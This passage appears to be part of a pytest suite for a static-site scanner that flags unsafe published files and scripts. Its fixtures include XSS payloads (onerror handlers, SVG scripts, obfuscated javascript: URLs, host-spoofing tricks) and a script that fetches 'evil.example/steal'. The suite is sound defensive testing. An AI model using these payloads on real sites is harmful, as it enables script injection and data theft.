        "blog/feed.json: JSON image='https://evil.example/i.png' loads from another host" in found
    )
    assert "blog/feed.json: JSON url='javascript:alert(1)' uses a javascript: URL" in found


def test_payload_scan_reports_files_that_must_not_be_published(tmp_path: Path) -> None:
    """Sources, originals, stray scripts, SVG with script, symlinks and secrets."""
    site = tmp_path / "site"
    (site / "media").mkdir(parents=True)
    (site / "policy.yml").write_text("confidential_terms: [Projekt Fyrtårn]\n", "utf-8")
    (site / "media" / "IMG_1.HEIC").write_bytes(b"\0\0\0\x18ftypheic")
    (site / "x.js").write_text("window.PWNED = 1\n", "utf-8")
    (site / "media" / "logo.svg").write_text(
        (HOSTILE / "files" / "logo-script.svg").read_text("utf-8"), "utf-8"
    )
    (site / "passwd.html").write_text("<p>root:x:0:0:root:/root:/bin/bash</p>", "utf-8")
    os.symlink("/etc/hostname", site / "link.txt")
    (site / "media" / "c.en.vtt").write_text(
        "WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/c.png) }\n\n"
        "00:00:00.000 --> 00:00:01.000\n<v Mette>Hi <img src=x onerror=alert(1)>\n",
        "utf-8",
    )
    found = "\n".join(find_payloads(site, secrets=SECRETS))
    assert "policy.yml: contains 'Projekt Fyrtårn'" in found
    assert "policy.yml: a source or original file (.yml) was published" in found
    assert "media/IMG_1.HEIC: a source or original file (.heic)" in found
    assert "x.js: a script file outside assets/javascripts/" in found
    assert "media/logo.svg: event handler onload=" in found
    assert "media/logo.svg: an inline script" in found
    assert "media/logo.svg: <a> xlink:href=" in found
    assert "passwd.html: contains 'root:x:0:'" in found
    assert "link.txt: a symbolic link" in found
    assert "media/c.en.vtt: a STYLE block that loads something" in found
    assert "media/c.en.vtt: markup that is not WebVTT: <img" in found
    assert "media/c.en.vtt: raw scan: event handler onerror=" in found
    assert "<v Mette>" not in found


def test_payload_scan_normalises_urls_like_a_browser() -> None:
    """Schemes and hosts after the browser's clean-up."""
    assert unsafe_scheme(" \x01JaVa\tScRiPt:alert(1)") == "javascript"
    assert unsafe_scheme("java\nscript:alert(1)") == "javascript"
    assert unsafe_scheme("&#106;avascript:alert(1)") == "javascript"
    assert unsafe_scheme("https://example.org/javascript:") is None
    assert unsafe_scheme("media/data:x.jpg") is None
    assert url_host("https://INTRANET.kystlinje.example./x") == "intranet.kystlinje.example"
    assert url_host("https://ｉntranet。kystlinje。example/") == "intranet.kystlinje.example"
    assert url_host("https://a.example@intranet.kystlinje.example/") == "intranet.kystlinje.example"
    assert url_host("/\\evil.example/x") == "evil.example"
    assert url_host("../media/x.jpg") == "site.invalid"
    assert srcset_urls("a.jpg 1x, b.jpg 2x") == ["a.jpg", "b.jpg"]


@pytest.mark.browser
def test_browser_check_sees_a_script_run(tmp_path: Path) -> None:
    """The browser half catches a dialog, the window.PWNED flag and a foreign request, and
    stays quiet on a clean page."""
    site = tmp_path / "site"
    (site / "bad").mkdir(parents=True)
    (site / "good").mkdir()
    (site / "bad" / "index.html").write_text(
        textwrap.dedent("""\
        <!doctype html><html><head><title>x</title></head><body>
        <img src=x onerror="alert('PWNED')">
        <script>window.PWNED = 1; fetch('https://evil.example/steal').catch(() => 0)</script>
        <p onmouseover="console.log('PWNED hover')">hover</p>
        </body></html>"""),
        "utf-8",
    )
    (site / "good" / "index.html").write_text(
        "<!doctype html><html><head><title>x</title></head><body><p>Hi</p></body></html>", "utf-8"
    )
    events = [str(e) for e in run_pages_in_browser(site, ["bad/", "good/"], settle_ms=200)]
    joined = "\n".join(events)
    assert "bad/: alert() dialog: 'PWNED'" in joined
    assert "bad/: window.PWNED was set (1)" in joined
    assert "bad/: request to another host: https://evil.example/steal" in joined
    assert "bad/: console: 'PWNED hover'" in joined
    assert not [e for e in events if e.startswith("good/")]
